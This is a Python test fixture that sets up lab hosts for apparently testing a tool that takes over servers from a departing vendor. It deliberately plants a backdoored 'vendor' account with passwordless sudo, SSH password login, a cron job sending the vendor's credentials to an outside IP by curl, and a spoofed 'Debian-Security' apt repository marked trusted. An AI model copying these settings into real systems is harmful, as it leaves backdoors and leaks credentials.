"""Two hosts whose maintenance changes hands, as an old vendor left them: `old-app` was never migrated, `new-app` was. Both are
booted by systemd and run PostgreSQL, chrony and node_exporter; `gate` is the bastion, `dns` tells names and the time.

Clocks are read and compared, never set: chronyd runs with -x everywhere.
"""

from __future__ import annotations

import hashlib
import json
import subprocess
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml
from estate import POSTGRES_BIN, Estate, make_estate, start_postgres
from server_bed import Host, HostPlan, ServerBed

from govcloud import resources
from govcloud.model.migration import EntranceSpec, HttpCheck, MachineSpec, MigrationSpec, VerifySpec
from govcloud.model.run import Run, RunSystem
from govcloud.safe_yaml import load_yaml
from govcloud.settings import open_workspace
from govcloud.store import run as run_store
from govcloud.workflow.session import open_session
from govcloud.workflow.takeover import list_takeovers

LEGACY, MIGRATED = "SL-LS-01", "SL-OA-01"
OLD, NEW = "old-app", "new-app"
HOST_OF = {LEGACY: OLD, MIGRATED: NEW}
OWNER, BUILDER = "业主代表丙", "建设单位代表丁"
SECRET = "Canary-7f3a-Old-Vendor"
"""The old vendor's password: it may be in no record, output or evidence."""
_NAMED = """options { directory "/var/cache/bind"; listen-on { any; }; listen-on-v6 { none; }; recursion no; dnssec-validation no; };
zone "bed.test" { type primary; file "/var/lib/bind/bed.test"; };
"""
_ZONE = """$TTL 5
@ IN SOA dns.bed.test. root.bed.test. ( 1 60 60 600 5 )
  IN NS dns.bed.test.
dns IN A 10.77.0.53
app IN A 10.77.1.30
"""
# The container may not set the clock, and shall not.
_CHRONY = "[Unit]\nConditionCapability=\n[Service]\nExecStart=\nExecStart=!/usr/sbin/chronyd -x\n"


def plans() -> list[HostPlan]:
    app = {
        "/etc/records.pass": ("lab-records-9d1\n", 0o600),
        "/etc/chrony/chrony.conf": ("server 10.77.0.53 iburst minpoll 0 maxpoll 2\ndriftfile /var/lib/chrony/drift\n", 0o644),
        "/etc/systemd/system/chrony.service.d/lab.conf": (_CHRONY, 0o644),
        "/etc/resolv.conf": ("nameserver 10.77.0.53\n", 0o644),
        "/etc/apt/sources.list": ("deb [trusted=yes] file:/srv/repo ./\n", 0o644),
    }  # fmt: skip
    return [
        HostPlan(OLD, "dept", "10.77.1.30", systemd=True, files=app),
        HostPlan(NEW, "cloud", "10.77.2.30", systemd=True, files=app),
        HostPlan("gate", "mgmt", "10.77.0.90"),
        HostPlan("dns", "mgmt", "10.77.0.53", files={
            "/etc/bind/named.conf": (_NAMED, 0o644), "/var/lib/bind/bed.test": (_ZONE, 0o644),
            "/etc/chrony/chrony.conf": ("local stratum 5\nallow all\n", 0o644),
        }),
    ]  # fmt: skip


def furnish(bed: ServerBed) -> None:
    bed.hosts["dns"].run(
        "sh",
        "-c",
        "chown -R bind:bind /var/lib/bind; named -u bind -c /etc/bind/named.conf; mkdir -p /run/chrony; chronyd -x",
    )
    for name in (OLD, NEW):
        _app(bed.hosts[name])


def _app(host: Host) -> None:
    start_postgres(host)
    host.run("sh", "-ec", """
        mkdir -p /srv/uploads /var/backups/app /run/lock
        for n in 1 2 3 4 5; do echo "公文附件 $n" > /srv/uploads/$n.txt; done
        PGPASSWORD=$(cat /etc/records.pass); export PGPASSWORD
        psql -qX -h 127.0.0.1 -U records -d records -c "INSERT INTO records (id, text, sha256) SELECT 'old-' || n, repeat('文', 50), '' FROM generate_series(1, 500) n"
        useradd -m -s /bin/bash vendor; echo 'vendor:@SECRET@' | chpasswd; chage -d 2020-01-01 vendor
        mkdir -p /home/vendor/.ssh; printf 'PasswordAuthentication yes\\n' > /etc/ssh/sshd_config.d/vendor.conf
        chown -R vendor: /home/vendor
        echo 'vendor ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/vendor
        echo '0 3 * * * /usr/bin/curl -u vendor:@SECRET@ http://198.51.100.1/' | crontab -u vendor -
        systemctl daemon-reload; systemctl start chrony prometheus-node-exporter; systemctl reload ssh || systemctl restart ssh
        """.replace("@SECRET@", SECRET), timeout=120)  # fmt: skip
    publish(host)
    back_up(host)


def publish(host: Host, package: str = "not-installed") -> None:
    """Fetch package lists from a repository on the host itself that calls itself Debian's for security, with one package."""
    packages = (
        f"Package: {package}\nVersion: 99\nArchitecture: all\nMaintainer: x\nFilename: ./x.deb\nSize: 1\nSHA256: {'0' * 64}\n"
        "Description: x\n"
    )
    data = packages.encode()
    about = {
        "Origin": "Debian", "Label": "Debian-Security", "Suite": "stable-security", "Version": "12",
        "Date": "Sun, 01 Nov 2026 00:00:00 UTC", "SHA256": f"\n {hashlib.sha256(data).hexdigest()} {len(data)} Packages",
    }  # fmt: skip
    host.run("mkdir", "-p", "/srv/repo")
    host.run("tee", "/srv/repo/Packages", input=packages)
    host.run("tee", "/srv/repo/Release", input="".join(f"{key}: {value}\n" for key, value in about.items()))
    host.run("apt-get", "-qq", "update")


def back_up(host: Host) -> None:
    host.run("sh", "-ec", """
        PGPASSWORD=$(cat /etc/records.pass); export PGPASSWORD
        pg_dump -Fc -h 127.0.0.1 -U records records > /var/backups/app/records.dump
        tar -C /srv -czf /var/backups/app/uploads.tar.gz uploads
        """)  # fmt: skip


def needs(**changes: Any) -> dict[str, Any]:
    """`takeover/<system>.yaml` of one host."""
    end = {"name": "records", "user": "records", "bin": POSTGRES_BIN, "password_file": "/etc/records.pass"}
    return {
        "monitoring": {"receiver": "示例值班室"},
        "backups": [
            {"kind": "postgresql", "path": "/var/backups/app/*.dump", "end": end},
            {"kind": "files", "path": "/var/backups/app/*.tar.gz", "source": "/srv/uploads"},
        ],
        "databases": [{"end": end}], "support_until": "2099-12-31", "scratch": "/var/tmp",
    } | changes  # fmt: skip


def clean_up(host: Host) -> None:
    """What the owner and the builder do about the old vendor, besides the keys."""
    host.run("sh", "-ec", """
        passwd -l vendor; chage -d $(date +%F) vendor; rm -f /etc/sudoers.d/vendor; crontab -u vendor -r || true
        echo 'PasswordAuthentication no' > /etc/ssh/sshd_config.d/vendor.conf; systemctl reload ssh
        """)  # fmt: skip


@dataclass
class Place:
    estate: Estate
    builder: Path
    """The builder's private key."""

    @property
    def bed(self) -> ServerBed:
        assert isinstance(self.estate.bed, ServerBed)
        return self.estate.bed

    def write_needs(self, system: str, **changes: Any) -> None:
        document = {"vendor_accounts": ["vendor"], "hosts": {HOST_OF[system]: needs(**changes)}}
        folder = self.estate.path / "takeover"
        folder.mkdir(exist_ok=True)
        (folder / f"{system}.yaml").write_text(yaml.safe_dump(document, allow_unicode=True), "utf-8")

    def change_host(self, name: str, **changes: str) -> None:
        """A line of hosts.yaml."""
        path = self.estate.path / "hosts.yaml"
        document = yaml.safe_load(path.read_text("utf-8"))
        (host,) = (h for h in document["hosts"] if h["name"] == name)
        host.update(changes)
        path.write_text(yaml.safe_dump(document, allow_unicode=True), "utf-8")

    def takeover(self, *words: str, user: str = BUILDER, codes: tuple[int, ...] = (0,)) -> Any:
        said = self.estate.govcloud("takeover", *words, user=user, codes=codes, limit_s=280)
        return json.loads(said) if said.strip() else None

    def start(self, system: str) -> str:
        key = ("--builder-key", f"{self.builder}.pub")
        self.takeover(
            "start", system, "--builder", "示例建设单位", *key, "--host", HOST_OF[system], "--level", "full", user=OWNER
        )
        with open_session(open_workspace(self.estate.path), actor=OWNER) as session:
            return next(t.handover.handover_id for t in list_takeovers(session) if t.handover.system_id == system)

    def give(self, handover: str, *, leave_out: tuple[str, ...] = ()) -> None:
        """A folder of papers, as an owner hands it over."""
        folder = self.estate.path / "papers"
        folder.mkdir(exist_ok=True)
        for item in (i for g in checklist()["groups"] for i in g["items"]):
            if item["source"] in ("file", "note") and item["item_id"] not in leave_out:
                (folder / f"{item['item_id']}.md").write_text("示例资料\n", "utf-8")
        self.takeover("papers", handover, str(folder), user=OWNER)

    def prove(self, handover: str, *words: str, old: bool = False) -> dict[str, tuple[bool | None, str]]:
        """Kind -> outcome and why. With the builder's key, unless the old one is still the way in."""
        lent = () if old else ("--identity", str(self.builder))
        found = self.takeover("prove", handover, *words, *lent, codes=(0, 1))["proofs"]
        return {r["kind"]: (r["ok"], row["detail"]) for r, row in zip(found["results"], found["rows"], strict=True)}


def checklist() -> dict[str, Any]:
    found: dict[str, Any] = load_yaml(resources.folder("inventory") / "handover" / "checklist.yaml")
    return found


def mark_moved(path: Path) -> None:
    """As a run leaves it: the target serves. Runs that really move a system have tests of their own."""
    spec = MigrationSpec(
        system_id=MIGRATED, machines=(MachineSpec(source=OLD, target=NEW),),
        entrances=(EntranceSpec(host="gate", file="/etc/e.json", name="oa", source="http://a", target="http://b"),),
        verify=VerifySpec(url="http://e/oa", checks=(HttpCheck(path="/health", contains="ok"),)),
    )  # fmt: skip
    with open_session(open_workspace(path), actor="操作员甲") as session, session.store.begin() as tx:
        at = session.now()
        run = Run(
            run_id="r1", scope={"playbooks": "a" * 64}, scope_hash="b" * 64, created_at=at, created_by="操作员甲",
            systems=(MIGRATED,), settings={"slots": 1},
        )  # fmt: skip
        moved = RunSystem(
            run_id="r1", system_id=MIGRATED, position=1, spec=spec, scope_hash="b" * 64, since=at, state="trial"
        )
        run_store.add_run(tx, run, [moved])


def make(bed: ServerBed, path: Path) -> Place:
    estate = make_estate(bed, path, systems=(LEGACY, MIGRATED))
    settings = path / "govcloud.yaml"
    wanted = {"takeover": {"ntp": ["10.77.0.53"], "dns": ["10.77.0.53"], "resolve": "app.bed.test"}}
    settings.write_text(settings.read_text("utf-8") + yaml.safe_dump(wanted), "utf-8")
    builder = path.parent / "builder_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "builder", "-f", str(builder)], check=True)
    mark_moved(path)
    place = Place(estate, builder)
    for system in HOST_OF:
        place.write_needs(system)
    return place
